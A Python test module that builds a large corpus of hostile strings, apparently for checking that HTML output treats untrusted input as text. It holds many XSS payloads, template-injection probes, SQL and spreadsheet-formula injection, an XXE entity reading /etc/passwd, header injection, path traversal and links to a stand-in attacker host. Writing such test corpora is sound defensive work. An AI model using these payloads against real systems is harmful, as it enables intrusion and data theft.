"""Hostile strings, made by a grammar: what would run, break out or upset a page if it were taken for markup.

Each element that would come of one bears the attribute `SIGN`, and each script calls `alert`: a page that
has neither an element with the sign nor an alert took all of it for text.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from itertools import product
from urllib.parse import quote

SIGN = "zqx"
CALL = "alert('zqx')"
QUOTED = "alert(&#39;zqx&#39;)"

ELEMENTS = (
    "<script {s}>{c}</script>",
    '<script {s} src="data:text/javascript,{c}"></script>',
    "<SCRIPT/{s}>{c}</SCRIPT >",
    "<img {s} src=x>",
    '<iframe {s} srcdoc="<script>{c}</script>"></iframe>',
    '<iframe {s} src="javascript:{c}"></iframe>',
    '<object {s} data="data:text/html,<script>{c}</script>"></object>',
    '<embed {s} src="javascript:{c}">',
    '<a {s} href="javascript:{c}">اقرأ</a>',
    '<form {s} action="javascript:{c}"><button {s}>أرسل</button></form>',
    '<button {s} formaction="javascript:{c}">x</button>',
    '<base {s} href="//evil.invalid/">',
    '<meta {s} http-equiv="refresh" content="0;url=javascript:{c}">',
    '<link {s} rel="stylesheet" href="//evil.invalid/x.css">',
    "<style {s}>*{{background:url(javascript:{c})}}</style>",
    '<p {s} style="position:fixed;inset:0;background:url(//evil.invalid/x)">نص</p>',
    "<template {s}><script>{c}</script></template>",
    "<dialog {s} open>{c}</dialog>",
    '<portal {s} src="//evil.invalid"></portal>',
    "<marquee {s}>خبر عاجل</marquee>",
)
HANDLERS = (
    *("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin", "onpageshow"),
    *(
        "onanimationstart",
        "onpointerenter",
        "onbeforetoggle",
        "onscroll",
        "onwheel",
        "oncontentvisibilityautostatechange",
    ),
)
HANDLED = (
    "<img {s} src=x {h}={c}>",
    "<svg {s} {h}={c}>",
    '<body {s} {h}="{c}">',
    "<input {s} autofocus {h}={c}>",
    "<details {s} open {h}={c}>",
    "<video {s}><source {s} {h}={c}></video>",
    "<audio {s} src=x {h}={c}>",
    "<math {s} {h}={c}>",
)
FOREIGN = (
    "<svg {s}><script>{c}</script></svg>",
    '<svg {s}><a xlink:href="javascript:{c}"><text y=9>x</text></a></svg>',
    "<svg {s}><animate {s} onbegin={c} attributeName=x dur=1s>",
    "<svg {s}><set {s} attributeName=href to=javascript:{c}></svg>",
    '<svg {s}><use href="data:image/svg+xml,<svg id=x onload={c}>#x"></use></svg>',
    "<svg {s}><foreignObject><iframe srcdoc='{c}'></iframe></foreignObject></svg>",
    "<svg {s}><style>@import '//evil.invalid';</style></svg>",
    '<math {s}><maction actiontype="statusline#" xlink:href="javascript:{c}">x</maction></math>',
    "<math {s}><mtext><table><mglyph><style><img src=x onerror={c}>",
    '<math {s} href="javascript:{c}">x</math>',
)
BREAKS = (
    *('"', "'", '">', "'>", "`>", '"/>', "--", "-->", "--!>", "]]>", "</title>", "</textarea>", "</style>"),
    *(
        "</script>",
        "</noscript>",
        "</bdi>",
        "</mark></a></h3>",
        "</option></select>",
        "</template>",
        '">\n',
        "'\n>",
        ">",
    ),
)
ATTRIBUTES = (
    '" {s} autofocus onfocus={c} x="',
    "' {s} autofocus onfocus={c} x='",
    "x {s} onmouseover={c} ",
    '"{s}="" onclick="{c}',
    "`` {s} onerror={c}",
    '"\t{s}\tonfocus\t=\t{c}\t',
    '"\f{s}\fonfocus={c}\f',
    '"/{s}/onfocus={c}/',
)
LINKS = (
    "javascript:{c}",
    "JaVaScRiPt:{c}",
    " javascript:{c}",
    "\tjava\nscript:{c}",
    "javascript&colon;{c}",
    "javascript&#58;{c}",
    "&#x6A;avascript:{c}",
    "java\u0000script:{c}",
    "\u0001javascript:{c}",
    "javascript://%0a{c}",
    "javascript:http://example.org/%0a{c}",
    "vbscript:{c}",
    "livescript:{c}",
    "data:text/html,<script>{c}</script>",
    "data:text/html;base64,{b}",
    "data:image/svg+xml,<svg onload={c}>",
    "blob:https://example.org/{c}",
    "file:///etc/passwd",
    "//evil.invalid/{c}",
    "\\\\evil.invalid\\{c}",
    'http://example.org/"{s} onclick={c}',
    "https://example.org/'><script {s}>{c}</script>",
    "https://user:pass@example.org/<svg {s} onload={c}>",
    "http:javascript:{c}",
    "view-source:javascript:{c}",
    "feed:javascript:{c}",
    "https://example.org/?u=javascript:{c}",
    "jar:https://example.org!/{c}",
)
TEMPLATES = (
    "{{{{ 70707*7 }}}}",
    "{{% for x in [].__class__.__base__.__subclasses__() %}}{{{{ x }}}}{{% endfor %}}",
    "${{70707*7}}",
    "#{{70707*7}}",
    "<%= 70707*7 %>",
    "{{{{config.items()}}}}",
    "{{{{ self.__init__.__globals__ }}}}",
    "*{{70707*7}}",
    "@(70707*7)",
    "[[70707*7]]",
    "%(zqx)s %s %d %%",
    "{{0}} {{zqx}} {{}}",
    "\\u003cscript zqx\\u003ealert('zqx')\\u003c/script\\u003e",
    "__proto__",
)
ODDITIES = (
    "\u202eقلب\u202e\u202d\u2066\u2067\u2068 بلا نهاية",
    "\u2069\u2069\u202c\u202c إنهاء بلا بداية",
    "م" + "\u0651\u064b\u0670\u0653\u0655" * 60 + " كومة علامات",
    "Z" + "".join(chr(0x300 + n % 0x70) for n in range(300)) + " zalgo",
    "سطر\u2028ثان\u2029ثالث\u0085رابع\u000bخامس\u000cسادس",
    "\ufeff\u200b\u200c\u200d\u2060\u00ad بلا عرض",
    "\ufffe\uffff\U0010ffff \ue000",
    "a\u0000b\u0007c\u001bd\u007f",
    "\u001b[31mأحمر\u001b[0m",
    "﷽" * 40,
    "ا" * 3000,
    "١\u20e3👩\u200d👩\u200d👧\U0001f1f8\U0001f1e6",
    "+ADw-script zqx+AD4-alert('zqx')+ADw-/script+AD4-",
    "\u00bcscript zqx\u00bealert('zqx')\u00bc/script\u00be",
    "\uff1cscript zqx\uff1ealert('zqx')\uff1c/script\uff1e",
    "\u2039script zqx\u203a",
    "%3Cscript zqx%3Ealert('zqx')%3C/script%3E",
    "%253Cscript zqx%253E",
    "&lt;script zqx&gt;alert('zqx')&lt;/script&gt;",
    "&amp;lt;script zqx&amp;gt;",
    "&#60;script zqx&#62;alert('zqx')&#60;/script&#62;",
    "&#x3c;img zqx src=x onerror=alert('zqx')&#x3e;",
    "&#0000060script zqx&#0000062",
    "<\u0000script zqx>alert('zqx')</script>",
    "<scr\u0000ipt zqx>alert('zqx')</scr\u0000ipt>",
    "<scr<script zqx>ipt zqx>alert('zqx')</script>",
    "<<script zqx>alert('zqx')//<</script>",
    "<!--><script zqx>alert('zqx')</script>-->",
    "<!--#exec cmd='id'-->",
    "<![CDATA[<script zqx>alert('zqx')</script>]]>",
    "<?xml version='1.0'?><?php echo 1 ?>",
    "<!DOCTYPE x [<!ENTITY zqx SYSTEM 'file:///etc/passwd'>]>&zqx;",
    "<plaintext zqx>",
    "<textarea zqx><xmp zqx><listing zqx>",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'x'!A1",
    "'; DROP TABLE article; --",
    "\r\nSet-Cookie: zqx=1\r\n\r\n<script zqx>alert('zqx')</script>",
    "../../../../etc/passwd\u0000.html",
    "٪s٪n " + "%n" * 20,
)


def hostile_strings() -> tuple[str, ...]:
    """Return all of them, in an order that never changes, each once."""
    return tuple(
        dict.fromkeys((*_elements(), *_handled(), *_foreign(), *_breaks(), *TEMPLATES_MADE, *ODDITIES))
    )


def hostile_links() -> tuple[str, ...]:
    """Return addresses that would run, or lead elsewhere than a link says."""
    coded = base64.b64encode(f"<script>{CALL}</script>".encode()).decode()
    return tuple(link.format(c=CALL, s=SIGN, b=coded) for link in LINKS)


def _elements() -> Iterator[str]:
    for form in ELEMENTS:
        made = form.format(s=SIGN, c=CALL)
        yield made
        yield f"نص قبله {made.upper().replace(SIGN.upper(), SIGN)} نص بعده"
        yield made.replace(" ", "\n", 1).replace(">", " >", 1)


def _handled() -> Iterator[str]:
    for form, handler in product(HANDLED, HANDLERS):
        yield form.format(s=SIGN, h=handler, c=QUOTED)


def _foreign() -> Iterator[str]:
    for form in FOREIGN:
        yield form.format(s=SIGN, c=QUOTED)


def _breaks() -> Iterator[str]:
    for broken in BREAKS:
        yield f"{broken}<svg {SIGN} onload={QUOTED}>"
        yield f"خبر{broken}<script {SIGN}>{CALL}</script>{broken}"
    for form in ATTRIBUTES:
        yield form.format(s=SIGN, c=QUOTED)
        yield quote(form.format(s=SIGN, c=QUOTED))


TEMPLATES_MADE = tuple(form.format() for form in TEMPLATES)
